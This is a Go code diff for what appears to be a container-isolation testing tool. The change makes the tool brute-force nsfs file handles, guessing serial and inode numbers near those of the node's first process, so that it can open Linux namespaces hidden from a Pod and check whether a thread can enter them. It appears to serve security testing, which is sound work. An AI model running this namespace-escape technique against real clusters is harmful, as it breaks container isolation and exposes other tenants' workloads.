@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"runtime"
 	"strings"
 	"sync"
 	"unsafe"
@@ -37,8 +38,7 @@ func knownNamespaces() map[string]string {
 
 // hiddenNamespaces opens namespaces in which the Pod sees no process, by their
 // names: owners and parents of those that it sees, neighbours in the kernel's list
-// of mount namespaces, and whatever a file handle names, of which the first and the
-// latest numbers are tried.
+// of mount namespaces, and what a file handle names whose numbers can be guessed.
 var hiddenNamespaces = sync.OnceValue(func() map[string]int {
 	known, hidden := knownNamespaces(), map[string]int{}
 	var climb func(fd int)
@@ -75,46 +75,60 @@ var hiddenNamespaces = sync.OnceValue(func() map[string]int {
 			climb(fd)
 		}
 	}
-	for _, number := range namespaceNumbers() {
-		if fd, err := openNamespace(number); err == nil {
-			climb(fd)
-		}
+	for _, kind := range []string{"mnt", "user", "pid", "net"} {
+		guessed += openGuessed(kind, climb)
 	}
 	return hidden
 })
 
-// seen are the namespaces that were climbed from.
-var seen = map[string]bool{}
+var (
+	seen    = map[string]bool{} // the namespaces that were climbed from
+	guessed int                 // how many file handles were tried
+)
 
-// namespaceNumbers are the kernel's serial numbers to try: the first ones, and those
-// around the Pod's own namespaces.
-func namespaceNumbers() []uint64 {
-	const around = 20_000
-	var numbers []uint64
-	for n := range uint64(64) {
-		numbers = append(numbers, n+1)
-	}
-	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/proc/self/ns/mnt", unix.AT_SYMLINK_FOLLOW)
-	if err != nil || handle.Size() < 16 {
-		return numbers
-	}
-	own := binary.NativeEndian.Uint64(handle.Bytes())
-	for n := own - min(around, own-1); n < own+around; n++ {
-		numbers = append(numbers, n)
-	}
-	return numbers
-}
+// guessAround is how far from the node's own numbers others are tried.
+const guessAround = 300
 
-// openNamespace opens a namespace by its serial number, whatever its type: by a file
-// handle of nsfs, as include/uapi/linux/nsfs.h has it.
-func openNamespace(number uint64) (int, error) {
+// openGuessed opens namespaces by file handles of nsfs. A handle holds, as
+// include/uapi/linux/nsfs.h has it, the kernel's serial number, the type and the
+// number that the link in /proc shows: numbers near those of the node's first
+// process are tried, as the outermost container's are, which was made shortly before.
+func openGuessed(kind string, found func(fd int)) (tried int) {
 	const (
 		root       = -10003 // FD_NSFS_ROOT
 		fileIDNsfs = 0xf1
 	)
-	id := make([]byte, 16) // struct nsfs_file_handle: number, type, inode
-	binary.NativeEndian.PutUint64(id, number)
-	return unix.OpenByHandleAt(root, unix.NewFileHandle(fileIDNsfs, id), unix.O_RDONLY|unix.O_CLOEXEC)
+	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/proc/1/ns/"+kind, unix.AT_SYMLINK_FOLLOW)
+	if err != nil || handle.Type() != fileIDNsfs || handle.Size() < 16 {
+		return 0 // an older kernel
+	}
+	id := handle.Bytes()
+	serial, inode := binary.NativeEndian.Uint64(id), binary.NativeEndian.Uint32(id[12:])
+	for s := serial - min(guessAround, serial-1); s < serial+guessAround; s++ {
+		binary.NativeEndian.PutUint64(id, s)
+		for i := inode - guessAround; i < inode+guessAround; i++ {
+			binary.NativeEndian.PutUint32(id[12:], i)
+			tried++
+			if fd, err := unix.OpenByHandleAt(root, unix.NewFileHandle(fileIDNsfs, id), unix.O_RDONLY|unix.O_CLOEXEC); err == nil {
+				found(fd)
+				break
+			}
+		}
+	}
+	return tried
+}
+
+// canEnter reports whether a thread can be put into the namespace.
+func canEnter(name string, fd int) bool {
+	if strings.HasPrefix(name, "mnt:") {
+		return space{name: name, fd: fd}.inCopy(func(string) error { return nil }) == nil
+	}
+	done := make(chan error)
+	go func() {
+		runtime.LockOSThread() // never unlocked: the thread ends with the goroutine
+		done <- unix.Setns(fd, 0)
+	}()
+	return <-done == nil
 }
 
 // attackNamespaces reports the namespaces that were opened though no process that
@@ -122,14 +136,11 @@ func openNamespace(number uint64) (int, error) {
 func attackNamespaces([]string) error {
 	for name, fd := range hiddenNamespaces() {
 		done := []string{"opened"}
-		if strings.HasPrefix(name, "mnt:") {
-			s := space{name: name, fd: fd}
-			if err := s.inCopy(func(string) error { return nil }); err == nil {
-				done = append(done, "entered")
-			}
+		if canEnter(name, fd) {
+			done = append(done, "entered")
 		}
 		report(result{Attack: "namespaces", Where: name, Done: done})
 	}
-	report(result{Attack: "namespaces", Count: len(knownNamespaces()) + len(namespaceNumbers())})
+	report(result{Attack: "namespaces", Count: len(knownNamespaces()), Note: fmt.Sprintf("%d file handles were guessed", guessed)})
 	return nil
 }
